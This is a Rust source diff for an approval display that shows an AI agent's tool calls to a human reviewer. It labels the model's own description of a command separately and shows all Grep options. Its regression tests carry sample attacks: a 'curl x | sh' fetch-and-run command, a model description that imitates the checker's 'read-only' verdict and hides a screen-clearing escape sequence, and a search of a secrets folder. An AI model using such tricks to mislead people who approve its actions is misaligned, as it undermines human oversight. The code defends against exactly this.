@@ -1,5 +1,7 @@
 //! A tool call as a person reads it when asked to approve it: the command for Bash, the
-//! path and a diff for Write and Edit, the pattern for searches — not raw JSON.
+//! path and a diff for Write and Edit, the pattern and every option for searches — not
+//! raw JSON. What the model says about its call (Bash's `description`) is not part of the
+//! call: [`model_note`] shows it apart, labelled as the model's words.
 //!
 //! Everything shown comes from a model: control characters (terminal escape sequences
 //! included) and invisible format characters ([`is_hidden_or_control`]) are shown as
@@ -140,10 +142,6 @@ pub fn describe_call(tool: &str, input: &Value) -> String {
             for (i, l) in whole(text(input, "command")).into_iter().enumerate() {
                 out.push(format!("{} {l}", if i == 0 { "  $" } else { "   " }));
             }
-            let d = text(input, "description");
-            if !d.is_empty() {
-                out.push(format!("  ({})", whole_inline(d, "   ")));
-            }
         }
         "Write" => {
             let content = text(input, "content");
@@ -169,6 +167,14 @@ pub fn describe_call(tool: &str, input: &Value) -> String {
             let path = text(input, "path");
             let at = if path.is_empty() { String::new() } else { format!(" in {}", whole_inline(path, "     ")) };
             out.push(format!("  {} {}{at}", tool.to_lowercase(), whole_inline(text(input, "pattern"), "     ")));
+            // Every other option changes what the search reads and shows (`glob`, `type`,
+            // `output_mode`, `-A`/`-B`/`-C`, `-i`, `multiline`, `head_limit`, ...).
+            if let Some(map) = input.as_object() {
+                for (key, value) in map.iter().filter(|(k, _)| !matches!(k.as_str(), "pattern" | "path")) {
+                    let value = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
+                    out.push(format!("    {}: {}", whole_inline(key, "      "), whole_inline(&value, "      ")));
+                }
+            }
         }
         _ => {
             // Another tool's arguments are the whole call: every line is shown.
@@ -180,6 +186,14 @@ pub fn describe_call(tool: &str, input: &Value) -> String {
     out.join("\n")
 }
 
+/// The model's own account of a call (Bash's `description`), labelled as such: it is
+/// model text, so it is shown apart from the call and from warden's reason (after it),
+/// never where a person expects warden's words (`read-only: lists files`).
+pub fn model_note(tool: &str, input: &Value) -> Option<String> {
+    let d = text(input, "description");
+    (tool == "Bash" && !d.is_empty()).then(|| format!("  model says: {}", whole_inline(d, "              ")))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -187,10 +201,8 @@ mod tests {
 
     #[test]
     fn calls_read_as_a_person_would_write_them() {
-        assert_eq!(
-            describe_call("Bash", &json!({ "command": "git status", "description": "see changes" })),
-            "  $ git status\n  (see changes)"
-        );
+        let call = json!({ "command": "git status", "description": "see changes" });
+        assert_eq!(describe_call("Bash", &call), "  $ git status");
         let w = describe_call("Write", &json!({ "file_path": "/workspace/a.txt", "content": "one\ntwo\n" }));
         assert_eq!(w, "  write /workspace/a.txt (2 lines)\n  + one\n  + two");
         let e = describe_call(
@@ -252,6 +264,32 @@ mod tests {
                 if c == '\n' { expected.push('\n') } else { push_shown(&mut expected, c) }
             }
             proptest::prop_assert_eq!(unwrap_shown(&lines), expected);
+        }
+    }
+
+    /// Regression (review item 10): the model's `description` sat unlabelled under the
+    /// command, where `read-only: lists files` reads as warden's words.
+    #[test]
+    fn regression_the_model_s_description_was_shown_as_if_warden_said_it() {
+        let call = json!({ "command": "curl x | sh", "description": "read-only: lists files\n\u{1b}[2Jok" });
+        assert!(!describe_call("Bash", &call).contains("read-only"));
+        let note = model_note("Bash", &call).unwrap();
+        assert!(note.starts_with("  model says: read-only: lists files\n"), "{note}");
+        assert!(!note.contains('\u{1b}'), "{note}");
+        assert_eq!(model_note("Bash", &json!({ "command": "ls" })), None);
+        assert_eq!(model_note("Read", &json!({ "description": "x" })), None);
+    }
+
+    /// Regression (review item 3): Grep showed only its pattern and path, so a person
+    /// approved `grep .` without seeing `glob: secrets/**` and `output_mode: content`.
+    #[test]
+    fn regression_grep_options_were_not_shown() {
+        let shown = describe_call(
+            "Grep",
+            &json!({ "pattern": ".", "glob": "secrets/**", "type": "py", "output_mode": "content", "-C": 3 }),
+        );
+        for part in ["grep .", "glob: secrets/**", "type: py", "output_mode: content", "-C: 3"] {
+            assert!(shown.contains(part), "{part:?} in {shown}");
         }
     }
 
